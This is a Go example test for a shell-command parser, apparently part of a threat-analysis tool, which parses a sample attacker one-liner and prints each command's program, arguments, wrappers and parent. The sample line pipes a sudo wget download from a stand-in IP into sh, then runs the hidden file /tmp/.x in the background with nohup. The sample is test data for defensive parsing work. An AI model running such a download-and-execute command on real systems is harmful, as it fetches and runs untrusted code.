package shell_test

import (
	"fmt"

	"github.com/decnet/ttp/shell"
)

// A downloader hidden behind a wrapper and a piped shell payload: each simple command comes
// out with its program, arguments and place in the line.
func Example() {
	l := shell.Parse(`cd /tmp; echo "sudo wget http://198.51.100.7/x -O /tmp/.x" | sh; nohup ./.x >/dev/null 2>&1 &`)
	for i, c := range l.Commands {
		parent := ""
		if p := l.ParentOf(i); p != nil {
			parent = " (parent " + p.Name + ")"
		}
		fmt.Printf("%s %q wrappers=%v redirs=%d%s\n", c.Name, c.Args, c.Wrappers, len(c.Redirs), parent)
	}
	// Output:
	// cd ["/tmp"] wrappers=[] redirs=0
	// echo ["sudo wget http://198.51.100.7/x -O /tmp/.x"] wrappers=[] redirs=0
	// sh [] wrappers=[] redirs=0 (parent echo)
	// wget ["http://198.51.100.7/x" "-O" "/tmp/.x"] wrappers=[sudo] redirs=0 (parent sh)
	// .x [] wrappers=[nohup] redirs=2
}
